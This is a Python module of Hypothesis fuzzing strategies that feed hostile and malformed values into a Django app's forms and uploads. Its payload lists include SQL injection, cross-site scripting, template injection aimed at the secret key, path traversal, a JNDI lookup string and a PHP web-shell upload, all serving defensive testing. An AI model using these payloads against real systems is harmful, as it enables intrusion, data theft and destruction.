"""What a hostile or careless sender puts in a form: hypothesis strategies for the value of
one field, given its kind and what the page offers, and for a whole form's data."""

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st


def fuzz_settings(examples):
    """A fixed budget, the same examples on every run; a failure is shown as it came
    (shrinking it costs minutes)."""
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        phases=[Phase.explicit, Phase.generate],
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# Hand-picked values every text-like field is tried with.
HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u200e\u200b",  # RTL/LTR marks, zero-width space
    "e\u0301\u0301\u0301\u0301\u0301",  # stacked combining marks
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a",
    "\U0001f489\U0001f3e5\U0001f469\u200d\u2695\ufe0f",  # emoji, with a joiner
    "\ufeff",
    "\r\n\r\n",
    "' OR 1=1 --",
    "'; DROP TABLE patients_patient; --",
    '" onmouseover="alert(1)',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "${jndi:ldap://example.invalid/a}",
    "0",
    "-1",
    "-0",
    "1e309",
    "NaN",
    "Infinity",
    "-Infinity",
    "9" * 40,
    "-" + "9" * 40,
    "18446744073709551616",
    "2147483648",
    "0x1F",
    "1,5",
    "1.5.5",
    "2030-02-30",
    "2030-13-01",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "1900-01-01",
    "10000-01-01",
    "2030-1-1T25:61",
    "25:61",
    "24:00",
    "23:59:60",
    "-01:00",
    "12:00 PM",
    "2030-01-07T10:00:00+99:00",
    "true",
    "on",
    "None",
    "null",
    "[]",
    "{}",
    "@",
    "a@b",
    "x" * 255 + "@example.com",
    "+1" + "5" * 30,
]

# Everything Unicode can encode in UTF-8 (no lone surrogates: they cannot be sent at all).
_any_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
# Far longer than any field takes, yet short enough that a form of many fields stays under
# Django's limit on a request's size (a 400 before any form would see it).
_oversized = st.builds(
    lambda piece, length: (piece * length)[:length],
    st.sampled_from(["x", "\u00e9", "\U0001f489", "<b>", "9", "\x00"]),
    st.integers(10_001, 20_000),
)
_numbers = st.one_of(
    st.integers(-(10**30), 10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.decimals(allow_nan=True).map(str),
)
_moments = st.one_of(
    st.dates().map(str),
    st.datetimes().map(lambda d: d.isoformat()),
    st.times().map(str),
    st.tuples(st.integers(-99, 99999), st.integers(-9, 99), st.integers(-9, 99)).map(
        lambda t: f"{t[0]}-{t[1]:02d}-{t[2]:02d}"
    ),
)


def scalar(offered=()):
    """One hostile value: what the page offers made odd, a hostile classic, any text, a
    number, a moment, or something far too long."""
    options = [
        st.sampled_from(HOSTILE),
        _any_text,
        _numbers,
        _moments,
        _oversized,
    ]
    if offered:
        offer = st.sampled_from(list(offered))
        options += [
            offer.map(lambda v: v + "\x00"),
            offer.map(lambda v: v + "'\"<>"),
            offer.map(lambda v: " " + v + "\u200f"),
            offer.map(lambda v: v * 2000),
        ]
    return st.one_of(*options)


# What a person would type, by the kind of field: the rest of a form around a hostile value.
PLAUSIBLE = {
    "email": "robin.visitor@example.com",
    "tel": "+18605550142",
    "number": "1",
    "date": "2030-01-07",
    "time": "10:00",
    "datetime-local": "2030-01-07T10:00",
    "password": "correct horse battery staple",
    "checkbox": "on",
}


def plausible(field):
    offered = [v for v in field.values if v != ""]
    if offered:
        return st.sampled_from(offered)
    return st.just(PLAUSIBLE.get(field.kind, "Robin Visitor"))


# Junk with names that lie about it.
_file_names = st.sampled_from(
    [
        "id.png",
        "consent.pdf",
        "photo.jpg.exe",
        "../../etc/passwd",
        "\u202egpj.exe",
        "a" * 300 + ".png",
        "no-extension",
        ".png",
        "x\x00.png",
        "",
    ]
)
_file_bytes = st.one_of(
    st.binary(max_size=2048),
    st.sampled_from(
        [
            b"",
            b"%PDF-1.4\n%%EOF",  # a PDF header with nothing in it
            b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,  # a PNG signature and garbage
            b"\xff\xd8\xff\xe0" + b"junk" * 100,  # a JPEG start and garbage
            b"<?php system($_GET['c']); ?>",
            b"<svg onload=alert(1)>",
            b"PK\x03\x04" + b"\x00" * 100,  # a ZIP's start
        ]
    ),
)


@st.composite
def upload(draw):
    name = draw(_file_names) or "upload"
    return SimpleUploadedFile(name, draw(_file_bytes), content_type="image/png")


def hostile(field):
    """A hostile value for one field of a parsed form, or a list of them (the key sent
    twice)."""
    if field.kind == "file":
        return st.one_of(upload(), scalar())
    one = scalar([v for v in field.values if v != ""])
    return st.one_of(one, st.lists(one, min_size=2, max_size=3))


@st.composite
def _anything(draw, fields):
    """Every field hostile, plausible or left out; and sometimes a name the form never had."""
    data = {}
    for name, field in sorted(fields.items()):
        choice = draw(st.integers(0, 9))
        if choice == 0:
            continue  # left out
        data[name] = draw(plausible(field) if choice < 4 else hostile(field))
    if draw(st.booleans()):
        stray = draw(st.sampled_from(["id", "pk", "patient", "user", "status", "x" * 300]))
        data[stray] = draw(scalar())
    return data


@st.composite
def _one_field_hostile(draw, fields):
    """A form filled as a person would, but for one field: what a service sees when only
    that field is wrong (a NUL byte the database refuses, a number too big for its column)."""
    data = {name: draw(plausible(field)) for name, field in sorted(fields.items())}
    if data:
        name = draw(st.sampled_from(sorted(data)))
        data[name] = draw(hostile(fields[name]))
    return data


@st.composite
def _one_nul_byte(draw, fields):
    """A form filled as a person would, with a NUL byte in one field: Django's text fields
    refuse it, PostgreSQL refuses to store it, and anything between must not pass it on."""
    data = {name: draw(plausible(field)) for name, field in sorted(fields.items())}
    if data:
        name = draw(st.sampled_from(sorted(data)))
        where = draw(st.sampled_from(["start", "middle", "alone"]))
        value = data[name]
        data[name] = {
            "start": "\x00" + value,
            "middle": value[:1] + "\x00" + value[1:],
            "alone": "\x00",
        }[where]
    return data


def form_data(fields):
    """The data of a form, its field names and kinds as `fields` says (name -> Field)."""
    fields = {name: f for name, f in fields.items() if name != "csrfmiddlewaretoken"}
    return st.one_of(_anything(fields), _one_field_hostile(fields), _one_nul_byte(fields))
